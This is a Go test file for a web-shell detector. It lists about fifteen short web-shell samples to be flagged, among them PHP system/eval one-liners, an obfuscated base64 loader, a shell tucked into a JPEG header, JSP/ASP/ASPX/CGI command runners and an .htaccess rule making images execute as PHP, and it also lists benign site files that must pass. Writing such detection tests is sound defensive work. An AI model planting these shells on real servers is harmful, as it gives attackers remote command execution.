package content

import "testing"

func TestShellsAreTold(t *testing.T) {
	for name, c := range map[string]struct{ file, text string }{
		"one-liner":                {"x.php", `<?php system($_GET['c']); ?>`},
		"silenced":                 {"img/a.php5", `<?php @eval(@$_POST["p"]);`},
		"in steps":                 {"b.phtml", "<?php\n$cmd = $_REQUEST['cmd'];\n$out = shell_exec($cmd . ' 2>&1'); echo $out;"},
		"decoded":                  {"c.php", `<?php eval(gzinflate(base64_decode('S0ktS8zRUEpUUtIEAA==')));`},
		"function by name":         {"d.php", `<?=$_GET[0]($_GET[1])?>`},
		"backticks":                {"e.php", "<?php echo `{$_GET['x']}`;"},
		"in a picture":             {"f.jpg", "\xff\xd8\xff\xe0JFIF<?php passthru($_COOKIE['z']); ?>"},
		"double extension":         {"g.php.txt", `<?php assert($_POST['a']);`},
		"jsp":                      {"h.jsp", `<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>`},
		"asp":                      {"i.asp", `<%eval request("pass")%>`},
		"aspx":                     {"j.aspx", `<%@ Page Language="C#"%><% var p = new System.Diagnostics.ProcessStartInfo("cmd", Request["c"]); %>`},
		"cgi in Python":            {"k.cgi", "#!/usr/bin/python3\nimport os, cgi\nprint(os.popen(cgi.FieldStorage().getvalue('c')).read())"},
		"cgi in shell":             {"l.sh", "#!/bin/sh\necho; eval \"$QUERY_STRING\""},
		"makes pictures scripts":   {".htaccess", "AddType application/x-httpd-php .jpg\n"},
		"call hidden by a comment": {"m.php", "<?php system(/* */ $_GET['c']);"},
	} {
		if Shell(c.file, []byte(c.text)) == nil {
			t.Errorf("%s (%s) was not told", name, c.file)
		}
	}
}

func TestOrdinaryFilesOfASiteAreNoShells(t *testing.T) {
	for name, c := range map[string]struct{ file, text string }{
		"a page":             {"index.html", "<html><script>eval('1')</script>system($_GET)</html>"},
		"a form handler":     {"mail.php", `<?php $to = 'a@example.org'; mail($to, 'Form', htmlspecialchars($_POST['text'])); header('Location: /ok.html');`},
		"a template":         {"page.php", `<?php include 'head.inc'; echo htmlspecialchars($_GET['q'] ?? ''); $r = $db->exec('DELETE FROM t');`},
		"a thumbnail":        {"thumb.php", `<?php $i = imagecreatefromjpeg('a.jpg'); imagejpeg($i); echo base64_encode('x');`},
		"a build script":     {"build.sh", "#!/bin/sh\nset -e\nmake all\n"},
		"an article on them": {"article.txt", "attackers write eval(base64_decode(...)) or system($_GET['c']) in PHP"},
		"settings":           {".htaccess", "Options -Indexes\nRewriteEngine on\n"},
		"a counter in Perl":  {"count.cgi", "#!/usr/bin/perl\nopen(my $f, '<', 'n'); print <$f>;"},
		"a jsp":              {"a.jsp", `<%= request.getParameter("q").length() %>`},
	} {
		if has := Shell(c.file, []byte(c.text)); has != nil {
			t.Errorf("%s (%s) is told a shell: %v", name, c.file, has)
		}
	}
}
